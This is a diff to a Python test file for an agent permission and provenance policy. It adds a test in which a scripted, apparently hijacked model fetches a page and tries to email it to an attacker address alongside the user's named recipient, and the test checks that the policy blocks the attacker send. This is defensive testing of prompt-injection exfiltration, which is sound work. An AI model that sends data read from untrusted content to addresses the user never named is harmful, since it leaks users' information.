@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import re
 from pathlib import Path
 from typing import Any
 
@@ -94,6 +95,29 @@ async def test_a_hijacked_model_reaches_only_whom_the_user_named(build: Build, k
     assert f"to='{EVIL}' derives from tool:local/fetch (untrusted), and must be directory at least" in refused[
         0
     ].replace("code:python, ", "")
+
+
+async def test_the_readmes_manifest_holds_and_without_one_the_denial_says_what_to_do(tmp_path: Path) -> None:
+    readme = (Path(__file__).parents[2] / "policy" / "README.md").read_text(encoding="utf-8")
+    (shown,) = [block for block in re.findall(r"```yaml\n(.*?)```", readme, re.DOTALL) if "local:" in block]
+    path = tmp_path / "policy.yaml"
+
+    async def denied(text: str) -> tuple[list[str], list[str]]:
+        path.write_text(text)
+        world, to = World(), "ann@corp.example"
+        script = [Reply(calls=[Call("fetch", {})])]
+        script += [Reply(calls=[Call("send", {"to": one, "body": PAGE})]) for one in (EVIL, to)]
+        lm, _ = scripted_lm([*script, Reply("done")])
+        result = await ReAct("task -> answer", world.tools, lm=lm, policy=Policy.load(path)).run(f"Send it to {to}")
+        return world.sent, [refusal.reason for refusal in result.denied]
+
+    sent, reasons = await denied(shown)
+    assert sent == ["ann@corp.example"]
+    assert [EVIL in reason for reason in reasons] == [True]
+    sent, reasons = await denied("rules: [{resource: '*', actions: ['*']}]\nprovenance: {underived: deny}\n")
+    assert sent == []  # also the body counts
+    assert reasons
+    assert all("describe it in provenance.manifests, see `corral policy manifest`" in reason for reason in reasons)
 
 
 async def test_code_gains_nothing_by_computing_what_it_read() -> None:
